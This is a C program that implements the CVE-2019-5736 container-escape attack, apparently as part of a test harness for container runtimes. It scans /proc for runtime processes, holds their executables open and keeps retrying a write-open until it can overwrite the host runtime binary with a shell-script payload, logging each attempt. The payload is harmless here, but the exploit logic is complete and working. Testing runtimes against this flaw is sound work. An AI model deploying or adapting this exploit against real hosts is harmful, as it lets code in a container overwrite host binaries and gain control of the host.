/*
 * The CVE-2019-5736 attack, as a process in a container runs it: find processes whose
 * executable is neither our own nor the container's shell (a runtime process passing
 * through: rt's init or exec child before its execve, or rt itself run by a
 * "#!/proc/self/exe" entrypoint), open /proc/PID/exe, and keep trying to reopen that file
 * for writing (ETXTBSY clears once nothing runs it) to overwrite it.
 *
 * usage: exe_attacker SECONDS LOG
 * LOG gets one line per event: "opened PID DEV:INO", "write-open ERRNO-NAME",
 * "WRITTEN PID" (the attack succeeded), and "done OPENED-COUNT" at the end.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 64

struct target {
	int fd;
	dev_t dev;
	ino_t ino;
	int last_errno;
};

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: %s SECONDS LOG\n", argv[0]);
		return 2;
	}
	double deadline = now() + atof(argv[1]);
	FILE *log = fopen(argv[2], "a");
	if (!log)
		return 2;
	setvbuf(log, NULL, _IOLBF, 0);
	struct stat self, shell;
	if (stat("/proc/self/exe", &self) || stat("/bin/busybox", &shell))
		return 2;
	struct target targets[MAX_TARGETS];
	int n = 0, opened = 0;
	pid_t me = getpid();
	static const char payload[] = "#!/bin/sh\necho PWNED\n";
	while (now() < deadline) {
		DIR *proc = opendir("/proc");
		struct dirent *e;
		while (proc && (e = readdir(proc))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == me)
				continue;
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			struct stat st;
			int keep = fstat(fd, &st) == 0 && n < MAX_TARGETS &&
				   !(st.st_dev == self.st_dev && st.st_ino == self.st_ino) &&
				   !(st.st_dev == shell.st_dev && st.st_ino == shell.st_ino);
			for (int i = 0; keep && i < n; i++)
				if (targets[i].dev == st.st_dev && targets[i].ino == st.st_ino)
					keep = 0;
			if (!keep) {
				close(fd);
				continue;
			}
			targets[n++] = (struct target){ fd, st.st_dev, st.st_ino, 0 };
			opened++;
			fprintf(log, "opened %d %lu:%lu\n", pid, (unsigned long)st.st_dev,
				(unsigned long)st.st_ino);
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < n; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/self/fd/%d", targets[i].fd);
			int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
			if (w < 0) {
				if (errno != targets[i].last_errno) {
					targets[i].last_errno = errno;
					fprintf(log, "write-open %s\n", strerrorname_np(errno));
				}
				continue;
			}
			if (write(w, payload, sizeof payload - 1) > 0)
				fprintf(log, "WRITTEN %d\n", i);
			else if (errno != targets[i].last_errno) {
				targets[i].last_errno = errno;
				fprintf(log, "write %s\n", strerrorname_np(errno));
			}
			close(w);
		}
	}
	fprintf(log, "done %d\n", opened);
	return 0;
}
